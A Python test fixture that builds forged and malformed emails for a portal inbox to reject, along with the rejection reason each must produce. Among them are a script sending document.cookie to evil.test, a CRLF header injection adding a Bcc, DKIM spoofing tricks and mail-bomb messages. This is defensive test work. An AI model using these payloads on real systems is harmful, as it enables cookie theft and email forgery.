"""The inbox's hostile corpus: messages that look like the portal's, each wrong in one way a
forger, a broken mail program or a mail bomb would be; with the reason `portal inbox` must
give for rejecting it."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from mailkit import KeyRing, Mailto, answered, mailto_in, message, page

CARL = "Carl Client <carl@acme.test>"
HEADERS = (b"From: Carl Client <carl@acme.test>\r\nTo: ann@agency.test\r\n"
           b"Cc: portal@agency.test\r\nDate: Fri, 20 Nov 2026 09:30:00 +0000\r\n"
           b"MIME-Version: 1.0\r\n")


@dataclass(frozen=True)
class Hostile:
    """One message of the corpus and what the rejection must say."""

    name: str
    raw: bytes
    reason: str


def good_approval(root: Path, keys: KeyRing, message_id: str = "<good-1@mail.acme.test>"
                  ) -> bytes:
    """The portal's own approval of acme's scope, as Carl sends it: recorded."""
    return keys.sign(answered(mailto_in(page(root, "acme/scope.html"), "approve"), CARL,
                              message_id), "acme.test")


def _raw(message_id: str, rest: bytes) -> bytes:
    return HEADERS + b"Message-ID: " + message_id.encode() + b"\r\n" + rest


def _nested(depth: int, message_id: str) -> bytes:
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n'
                       % (i, i) for i in range(depth))
    closing = b"".join(b"\r\n--b%d--\r\n" % i for i in reversed(range(depth)))
    return _raw(message_id, opening + b"Content-Type: text/plain\r\n\r\nHello\r\n" + closing)


def _partial(keys: KeyRing, link: Mailto) -> bytes:
    """Signed over the body's first part only (l=), with a forger's text added below."""
    signed = keys.sign(answered(link, CARL, "<partial@mail.acme.test>"), "acme.test",
                       length=True)
    return signed + b"\r\nP.S. Also approve everything else.\r\n"


def corpus(root: Path, keys: KeyRing) -> list[Hostile]:
    """Every hostile message; the site must be built (the portal's links are used)."""
    approval = mailto_in(page(root, "acme/scope.html"), "approve")
    survey = mailto_in(page(root, "acme/index.html"), "survey-send")
    good = good_approval(root, keys, "<replayed@mail.acme.test>")
    never = "sha256:" + "0123456789abcdef" * 4
    fake_body = approval.body.split("Fingerprint: ")[0] + f"Fingerprint: {never}\n\n" \
        + approval.body.split("\n\n")[-1]
    html = (b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>I approve</p>"
            b"<script>fetch('https://evil.test/'+document.cookie)</script>"
            b"<p>Ref: acme/scope</p>\r\n")
    return [
        Hostile("spoofed From with a valid-looking body",
                answered(approval, CARL, "<spoof@mail.acme.test>"),
                "is not authenticated (no DKIM signature"),
        Hostile("a DKIM signature of another domain",
                keys.sign(answered(approval, CARL, "<evil@mail.acme.test>"), "evil.test"),
                "a valid DKIM signature of evil.test, another domain"),
        Hostile("another client's contact",
                keys.sign(answered(approval, "Zoe Zed <zoe@zeta.test>",
                                   "<zoe@mail.zeta.test>"), "zeta.test"),
                "zoe@zeta.test is a contact of another client (zeta), not of acme"),
        Hostile("someone at the client's domain who is no contact",
                keys.sign(answered(approval, "Mallory <mallory@acme.test>",
                                   "<mallory@mail.acme.test>"), "acme.test"),
                "mallory@acme.test is not a contact of acme"),
        Hostile("a replayed message-id with the body changed",
                good.replace(b"I approve this document", b"I approve every document"),
                "a DKIM signature of acme.test that does not verify"),
        Hostile("the fingerprint of a text never committed",
                keys.sign(message(sender=CARL, message_id="<never@mail.acme.test>",
                                  body=fake_body), "acme.test"),
                "matches no committed version of acme/scope.md"),
        Hostile("HTML and a script, no plain text",
                keys.sign(_raw("<html@mail.acme.test>", html), "acme.test"),
                "has no plain-text part"),
        Hostile("a 50 MB message",
                _raw("<big@mail.acme.test>", b"Content-Type: text/plain\r\n\r\n"
                     + (b"A" * 76 + b"\r\n") * (50 * 1024 * 1024 // 78)),
                "is larger than 10 MB"),
        Hostile("60 nested multiparts", _nested(60, "<nest@mail.acme.test>"),
                "has more than 50 MIME parts"),
        Hostile("multiparts nested ten deep",
                keys.sign(_nested(10, "<deep@mail.acme.test>"), "acme.test"),
                "nests MIME parts more than 8 deep"),
        Hostile("an unknown character set",
                keys.sign(_raw("<klingon@mail.acme.test>",
                               b"Content-Type: text/plain; charset=x-klingon\r\n\r\nQapla'"
                               b"\r\nRef: acme/scope\r\n"), "acme.test"),
                "is written in an unknown character set 'x-klingon'"),
        Hostile("bytes that are not the declared UTF-8",
                keys.sign(_raw("<bytes@mail.acme.test>",
                               b"Content-Type: text/plain; charset=utf-8\r\n"
                               b"Content-Transfer-Encoding: 8bit\r\n\r\nHello \xff\xfe\xc3\r\n"
                               b"Ref: acme/scope\r\n"), "acme.test"),
                "is not valid utf-8 text"),
        Hostile("header injection in the subject",
                keys.sign(_raw("<inject@mail.acme.test>",
                               b"Subject: =?utf-8?q?Approval=0D=0ABcc=3A_all=40evil=2Etest?=\r\n"
                               b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
                               + approval.body.replace("\n", "\r\n").encode()), "acme.test"),
                "its Subject header holds a line break or a control character"),
        Hostile("a signature over part of the body", _partial(keys, approval),
                "covering only part of the body (l=)"),
        Hostile("a message of no portal",
                keys.sign(message(sender=CARL, message_id="<plain@mail.acme.test>",
                                  body="Hi Ann, lunch on Friday?\n"), "acme.test"),
                "is not a message of the portal"),
        Hostile("two senders in From",
                keys.sign(message(sender="carl@acme.test, dana@acme.test",
                                  message_id="<two@mail.acme.test>", body=approval.body),
                          "acme.test"),
                "does not name exactly one sender"),
        Hostile("an Authentication-Results header of a server not trusted",
                b"Authentication-Results: mx.evil.test; dkim=pass header.d=acme.test\r\n"
                + answered(approval, CARL, "<forged-ar@mail.acme.test>"),
                "is not authenticated"),
        Hostile("a survey answer out of range",
                keys.sign(answered(survey, CARL, "<range@mail.acme.test>",
                                   fill={"Answer: ": "11"}), "acme.test"),
                "answers 11 where 0 to 10 is asked"),
    ]
